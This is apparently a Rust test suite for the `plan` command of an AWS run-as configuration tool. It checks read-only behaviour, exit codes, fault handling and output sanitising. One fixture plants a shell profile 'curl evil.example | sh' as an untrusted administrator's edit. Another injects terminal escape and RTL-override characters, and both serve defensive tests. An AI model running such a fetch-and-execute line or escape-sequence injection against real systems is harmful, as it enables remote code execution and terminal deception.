//! `runasctl plan`: what there is and what there should be, without a trace.

use std::fs;

use runas_reactor::config;
use serde_json::{Value, json};

use super::callers::lza_inputs;
use super::operator::Ran;
use super::organisation::{COMMAND, DEPLOY, LOCKED, NEW, PROFILED, RIGHT, WITHOUT_FRANKFURT, workload};
use super::stage::{APPLIANCE, FRANKFURT, HOME, MANAGEMENT, PAYMENTS, PILOT, SANDBOX, SEARCH, Stage, VIRGINIA};

/// Everything that a plan may call.
const READS: [&str; 11] = [
    "AssumeRole",
    "BatchGetItem",
    "DescribeAccount",
    "GetDocument",
    "ListAccounts",
    "ListAccountsForParent",
    "ListDocumentVersions",
    "ListOrganizationalUnitsForParent",
    "ListParents",
    "ListRegions",
    "ListRoots",
];

impl Stage {
    /// A plan by the policy's file, without a ledger.
    fn plan(&self, arguments: &[&str]) -> Ran {
        let policy = self.policy_file(&self.yaml);
        let arguments: Vec<&str> = ["plan", "--policy", &policy].iter().chain(arguments).copied().collect();
        self.runasctl(&[(config::TABLE, "")], &arguments)
    }

    #[track_caller]
    fn assert_only_read(&self) {
        let calls = self.aws.log();
        assert!(!calls.is_empty());
        let other = calls.iter().find(|call| !READS.iter().any(|read| call["action"] == *read));
        assert_eq!(other, None, "a plan never writes");
    }
}

/// The line of one target.
#[track_caller]
fn entry(plan: &Value, account: &str, region: &str) -> Value {
    let entries = plan["entries"].as_array().expect("entries");
    let found = entries.iter().find(|entry| entry["account"] == account && entry["region"] == region);
    found.unwrap_or_else(|| panic!("no line for {account}/{region}")).clone()
}

#[test]
fn an_organisation_is_read_from_the_screen() {
    let stage = Stage::found();
    let ran = stage.plan(&[]).ends(3);
    insta::assert_snapshot!("organisation", stage.redacted(&format!("{}\n-- stderr\n{}", ran.out, ran.err)));
    stage.assert_only_read();
    assert_eq!(stage.calls("dynamodb").len(), 0);
    let assumed = stage.actions("sts").len();
    assert!((25..=33).contains(&assumed), "one session an account, and {assumed} calls");

    let data = stage.plan(&["--output", "json"]).ends(3).data();
    let actions = json!({"in_sync": 15, "exempt": 3, "wait": 0, "observe": 3, "create": 9, "change": 40, "replace": 1,
        "unreachable": 4});
    assert_eq!(data["summary"]["actions"], actions);
    assert_eq!((&data["summary"]["targets"], &data["summary"]["accounts"]), (&json!(75), &json!(25)));
    let is = |account: &str, region: &str, action: &str| assert_eq!(entry(&data, account, region)["action"], action);
    is(&workload(NEW[0]), HOME, "create");
    is(&workload(COMMAND), VIRGINIA, "replace");
    is(&workload(COMMAND), HOME, "change");
    is(&workload(LOCKED), HOME, "unreachable");
    is(&workload(WITHOUT_FRANKFURT), FRANKFURT, "unreachable");
    is(&workload(WITHOUT_FRANKFURT), HOME, "change");
    is(&workload(RIGHT[0]), VIRGINIA, "in_sync");
    is(PILOT, HOME, "observe");
    is(APPLIANCE, HOME, "exempt");
    is(MANAGEMENT, HOME, "change");
    is(SANDBOX, HOME, "change");

    let deploy = entry(&data, &workload(DEPLOY), HOME);
    assert_eq!(deploy["today"]["runAsDefaultUser"], "deploy");
    assert_eq!(
        deploy["changes"],
        json!([{"field": "runAsDefaultUser", "from": "deploy", "to": "ops", "risk": "user_in_use"}])
    );
    assert_eq!(deploy["write"]["content"]["$content"]["inputs"]["maxSessionDuration"], "60", "not owned, and kept");
    let profiled = entry(&data, &workload(PROFILED), HOME);
    assert_eq!(profiled["adopts"], json!(["shellProfile", "cloudWatchLogGroupName"]));
    let sandbox = entry(&data, SANDBOX, HOME);
    assert_eq!(sandbox["write"], json!({"do": "promote", "version": 2}));
    assert_eq!(
        (&sandbox["today"]["runAsEnabled"], &sandbox["default_today"]["runAsEnabled"]),
        (&json!(true), &json!(false))
    );
    assert!(entry(&data, PAYMENTS, HOME)["baseline"]["reason"].as_str().unwrap().contains("production"));
}

#[test]
fn a_plan_is_about_the_accounts_and_regions_that_are_named() {
    let stage = Stage::set();
    let targets = |arguments: &[&str]| -> Vec<(String, String)> {
        let arguments: Vec<&str> = ["-o", "json"].iter().chain(arguments).copied().collect();
        let data = stage.plan(&arguments).ends(2).data();
        let entries = data["entries"].as_array().unwrap().clone();
        let text = |value: &Value| value.as_str().unwrap().to_owned();
        entries.iter().map(|entry| (text(&entry["account"]), text(&entry["region"]))).collect()
    };
    let pairs =
        |pairs: &[(&str, &str)]| pairs.iter().map(|(a, r)| ((*a).to_owned(), (*r).to_owned())).collect::<Vec<_>>();
    assert_eq!(targets(&["--region", HOME]).len(), 7);
    assert_eq!(
        targets(&["--account", SANDBOX, "--region", VIRGINIA, "--region", HOME]),
        pairs(&[(SANDBOX, HOME), (SANDBOX, VIRGINIA)])
    );
    let policy = stage.policy();
    let production = &policy.document().scopes[0].ous[0];
    assert_eq!(
        targets(&["--ou", production, "--region", HOME]),
        pairs(&[(PAYMENTS, HOME), (SEARCH, HOME)]),
        "nested, too"
    );

    stage
        .plan(&["--region", "ap-south-1"])
        .ends(64)
        .complains_of(&["ap-south-1: the policy does not govern it; fix: "]);
    stage
        .plan(&["--account", "999999999999"])
        .ends(1)
        .complains_of(&["999999999999 is not in the organisation; fix: "]);
    stage.plan(&["--ou", production, "--account", SANDBOX]).ends(64);
    stage.plan(&["--ou", "ou-none-00000000"]).ends(1).complains_of(&["ForParent", "fix: "]);
    stage.assert_only_read();
}

#[test]
fn where_all_enabled_regions_are_governed_each_account_is_asked_for_them() {
    let mut stage = Stage::set();
    stage.yaml = stage.yaml.replace("regions: [eu-west-1, eu-central-1, us-east-1]", "regions: enabled");
    stage.aws.switches(&json!({
        "regions_on": [{"account": SANDBOX, "region": "me-south-1"}],
        "regions_off": [{"account": SANDBOX, "region": FRANKFURT}],
    }));
    let regions = |account: &str, code: i32| -> Vec<String> {
        let data = stage.plan(&["-o", "json", "--account", account]).ends(code).data();
        let entries = data["entries"].as_array().expect("entries").iter();
        entries.map(|entry| entry["region"].as_str().unwrap_or_default().to_owned()).collect()
    };
    assert_eq!(regions(SANDBOX, 2), [HOME, "me-south-1", VIRGINIA]);
    assert_eq!(regions(PAYMENTS, 2), [FRANKFURT, HOME, VIRGINIA]);
    // One that does not say counts wherever any account is, and that is not known to be all.
    stage.aws.faults(&json!([{"service": "account", "code": "AccessDeniedException", "status": 403, "times": 9}]));
    let ran = stage.plan(&["-o", "json", "--account", SEARCH]).ends(3);
    assert!(ran.err.contains(&format!("account {SEARCH} does not say which regions it has enabled")), "{}", ran.err);
    assert!(ran.err.contains("AccessDenied") && ran.err.contains("`account:ListRegions`"), "{}", ran.err);
    let data = ran.data();
    assert_eq!((&data["summary"]["targets"], &data["summary"]["regions_not_reported"]), (&json!(17), &json!([SEARCH])));
    assert_eq!(data["summary"]["actions"]["unreachable"], 0, "each of them could be looked at");
}

#[test]
fn the_exit_code_says_how_things_are() {
    let stage = Stage::set();
    let right = json!({"runAsEnabled": true, "runAsDefaultUser": "ops"});
    stage.pipeline(SANDBOX).creates(HOME, &right);
    stage.aws.clear_log();
    let home = ["--account", SANDBOX, "--region", HOME];
    let ran = stage.plan(&home).ends(0);
    assert!(ran.out.contains("No changes: 1 in sync."), "{}", ran.out);
    stage.plan(&["--account", SANDBOX]).ends(2);
    stage.plan(&["--account", APPLIANCE]).ends(0);
    stage.plan(&["--account", PILOT]).ends(2);
    stage.aws.switches(&json!({"denied_roles": [{"account": SANDBOX, "role": "RunasReactorMember"}]}));
    let ran = stage.plan(&home).ends(3);
    assert!(ran.out.contains("cause: AccessDenied") && ran.out.contains("fix: see that a role"), "{}", ran.out);
    stage.plan(&[]).ends(3);
    stage
        .runasctl(&[(config::TABLE, "")], &["plan"])
        .ends(64)
        .complains_of(&["no policy is known; fix: give --policy"]);
    stage.runasctl(&[], &["plan"]).ends(1).complains_of(&["the ledger holds no policy; fix: "]);
    stage.runasctl(&[], &["plan", "--policy", "/nowhere"]).ends(1).complains_of(&["cannot read /nowhere", "fix: "]);
    stage.assert_only_read();
}

#[test]
fn what_a_call_fails_for_is_no_green() {
    let stage = Stage::set();
    stage.pipeline(SANDBOX).creates(HOME, &json!({"runAsEnabled": true, "runAsDefaultUser": "ops"}));
    let home = ["--account", SANDBOX, "--region", HOME, "-o", "json"];
    let failing = |service: &str, action: &str, code: &str| {
        let fault = json!({"service": service, "action": action, "code": code, "message": "as injected", "times": 9});
        stage.aws.faults(&json!([fault]));
        let entry = entry(&stage.plan(&home).ends(3).data(), SANDBOX, HOME);
        assert_eq!(
            (&entry["action"], &entry["seen"], &entry["write"]),
            (&json!("unreachable"), &Value::Null, &Value::Null)
        );
        entry["obstacle"].clone()
    };
    assert_eq!(failing("ssm", "ListDocumentVersions", "AccessDeniedException")["kind"], "denied");
    assert_eq!(failing("ssm", "GetDocument", "SubscriptionRequiredException")["kind"], "not_ready");
    let failed = failing("ssm", "GetDocument", "InternalServerError");
    assert_eq!(failed["kind"], "failed");
    assert!(failed["cause"].as_str().unwrap().contains("as injected") && !failed["fix"].as_str().unwrap().is_empty());
    failing("organizations", "DescribeAccount", "ServiceException");

    let throttled =
        json!({"service": "*", "action": "DescribeAccount", "code": "TooManyRequestsException", "times": 2});
    stage.aws.faults(&json!([throttled]));
    stage.plan(&home).ends(0);
    stage.aws.faults(&json!([{"service": "organizations", "action": "ListAccounts", "code": "AccessDeniedException"}]));
    stage.plan(&[]).ends(1).complains_of(&["ListAccounts: AccessDeniedException", "fix: allow ListAccounts"]);
}

#[test]
fn with_a_ledger_the_policy_and_what_was_accepted_come_from_there() {
    let stage = Stage::set();
    stage.push_policy();
    stage.pipeline(SANDBOX).creates(HOME, &lza_inputs());
    let lambda = stage.lambda();
    stage.prepare(&lambda, &[(SANDBOX, HOME)]);
    stage.assert_right(SANDBOX, HOME);
    let profile = json!({"linux": "curl evil.example | sh", "windows": ""});
    stage.administrator(SANDBOX, "mallory@example.com").edits(HOME, &json!({"shellProfile": profile}));
    stage.aws.clear_log();

    let arguments = ["plan", "--account", SANDBOX, "--region", HOME, "-o", "json"];
    let ran = stage.runasctl(&[], &arguments).ends(2);
    assert_eq!(ran.err, "");
    let line = entry(&ran.data(), SANDBOX, HOME);
    assert_eq!(
        line["changes"],
        json!([{"field": "shellProfile", "from": profile, "risk": "runs_code"}]),
        "the profile is no owned field; it goes because nobody who is trusted made it"
    );
    assert_eq!(line.get("adopts"), None);
    stage.assert_only_read();

    let table = [(config::TABLE, "no-such-table")];
    let policy = stage.policy_file(&stage.yaml);
    let ran = stage.runasctl(&table, &["plan", "--policy", &policy, "--account", SANDBOX]).ends(1);
    ran.complains_of(&["BatchGetItem", "fix: see whether the URL or the name is right"]);
}

#[test]
fn text_of_others_does_not_reach_the_terminal_as_it_is() {
    let stage = Stage::set();
    let hostile = "\u{1b}]0;owned\u{7}\u{1b}[2J\u{202e}ops";
    stage
        .administrator(SANDBOX, "mallory@example.com")
        .creates(HOME, &json!({"runAsEnabled": true, "runAsDefaultUser": hostile}));
    let home = ["--account", SANDBOX, "--region", HOME];
    let ran = stage.plan(&home).ends(2);
    let json: Vec<&str> = home.iter().chain(&["-o", "json"]).copied().collect();
    let data = stage.plan(&json).ends(2);
    for text in [&ran.out, &data.out] {
        assert!(text.chars().all(|c| c == '\n' || !c.is_control() && c != '\u{202e}'), "{text:?}");
    }
    assert_eq!(entry(&data.data(), SANDBOX, HOME)["today"]["runAsDefaultUser"], hostile);
}

#[test]
fn a_plan_is_kept_as_it_was_shown_for_its_owner_alone() {
    let stage = Stage::set();
    let files = tempfile::TempDir::new().unwrap();
    let path = files.path().join("plan.json");
    let name = path.display().to_string();
    let ran = stage.plan(&["--out", &name, "-o", "json"]).ends(2);
    ran.complains_of(&["to do exactly this: runasctl apply "]);
    assert_eq!(fs::read_to_string(&path).unwrap(), ran.out);
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        assert_eq!(fs::metadata(&path).unwrap().permissions().mode() & 0o777, 0o600);
    }
    assert_eq!(fs::read_dir(files.path()).unwrap().count(), 1, "nothing else is left there");
    let nowhere = files.path().join("no/such/plan.json").display().to_string();
    stage.plan(&["--out", &nowhere]).ends(1).complains_of(&["cannot write ", "fix: "]);
}
